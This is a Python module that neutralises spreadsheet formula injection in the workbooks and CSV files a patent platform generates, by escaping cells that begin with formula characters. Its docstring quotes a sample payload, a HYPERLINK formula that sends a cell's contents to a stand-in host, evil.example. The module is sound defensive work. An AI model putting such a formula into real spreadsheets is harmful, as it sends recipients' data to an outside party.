"""Writing user text into files others open in a spreadsheet program, as text.

Excel, WPS and LibreOffice run a cell that starts with `=`, `+`, `-` or `@` as a formula, and
openpyxl itself stores any string that starts with `=` as one. A patent title such as
`=HYPERLINK("http://evil.example/?x="&A3,"点击查看")` written by staff must reach the enterprise
that downloads its feedback template as the characters it is, never as a live link. Every
workbook and CSV the platform generates writes its cells through this module.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

# What spreadsheet programs treat as the start of a formula (or a DDE command): OWASP's list.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value: object) -> bool:
    """True when a spreadsheet program would evaluate `value` if typed into a cell."""
    return isinstance(value, str) and value.startswith(FORMULA_START)


def csv_text(value: object) -> str:
    """`value` for a CSV cell: a leading `'` keeps formula-like text as text (CSV has no types)."""
    text = "" if value is None else str(value)
    return "'" + text if looks_like_formula(text) else text


def append_row(ws: Any, values: Iterable[object]) -> None:
    """Append `values` to an openpyxl worksheet, every string stored as a string cell.

    The value itself stays exact (a round trip reads back the same characters); the cell's type
    is string and `quotePrefix` is set on formula-like text, so the program shows it as text
    and keeps it text when someone edits the cell.
    """
    ws.append(list(values))
    for cell in ws[ws.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"
            if looks_like_formula(cell.value):
                cell.quotePrefix = True
